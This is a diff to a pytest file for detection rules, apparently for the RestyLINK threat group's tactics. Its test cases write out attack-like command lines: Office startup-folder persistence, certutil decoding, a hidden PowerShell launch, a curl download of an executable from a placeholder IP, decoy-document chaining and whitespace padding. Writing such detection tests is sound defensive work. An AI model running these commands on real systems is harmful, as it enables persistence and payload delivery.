@@ -144,18 +144,36 @@ def test_team_rules_match_restylink_event() -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
+    ("command", "rule_file"),
     [
-        'powershell -c Copy-Item x.dotm "$env:APPDATA/Microsoft/Word/STARTUP/x.dotm"',
-        'cmd /c echo AAAA > "%APPDATA%\\Microsoft\\Excel\\XLSTART\\book.xlsb"',
-        'certutil -decode b.txt "%APPDATA%\\Microsoft\\AddIns\\helper.xlam"',
-        'cmd /c xcopy /y a.tmp "%APPDATA%\\Microsoft\\Word\\STARTUP\\addin.wll"',
+        ('powershell -c Copy-Item x.dotm "$env:APPDATA/Microsoft/Word/STARTUP/x.dotm"', "restylink_office"),
+        ('cmd /c echo AAAA > "%APPDATA%\\Microsoft\\Excel\\XLSTART\\book.xlsb"', "restylink_office"),
+        ('certutil -decode b.txt "%APPDATA%\\Microsoft\\AddIns\\helper.xlam"', "restylink_office"),
+        ('cmd /c xcopy /y a.tmp "%APPDATA%\\Microsoft\\Word\\STARTUP\\addin.wll"', "restylink_office"),
+        ("cmd.exe /c start /b /min C:\\Users\\Public\\run.vbs", "lnk_script_host"),
+        ("cmd.exe /c powershell -w hidden -c calc", "lnk_script_host"),
+        ("cmd.exe /c curl -o a.exe http://203.0.113.9/a.exe", "lnk_script_host"),
+        ('cmd.exe /c a.exe&start "" doc.docx', "lnk_decoy_document"),
+        ("cmd.exe" + " " * 64 + "/c calc", "lnk_whitespace_padded"),
     ],
 )
-def test_startup_rule_variants(command: str) -> None:
+def test_team_rule_variants(command: str, rule_file: str) -> None:
     event = {**RESTYLINK, "CommandLine": command}
     names = {Path(m.path).name for m in load_rules(default_rule_dirs()).match(event)}
-    assert "restylink_office_startup_template_write.yml" in names
+    assert any(n.startswith(rule_file) for n in names), names
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'cmd.exe /c start "" "invoice.pdf"',  # opening a document without a chained command
+        'notepad.exe "%APPDATA%\\Microsoft\\Word\\STARTUP\\readme.txt"',  # reading, not writing
+        "cmd.exe /c dir %APPDATA%\\Microsoft\\Word\\STARTUP",
+    ],
+)
+def test_team_rules_near_misses(command: str) -> None:
+    event = {**RESTYLINK, "CommandLine": command}
+    assert load_rules(default_rule_dirs()).match(event) == []
 
 
 @pytest.mark.parametrize(
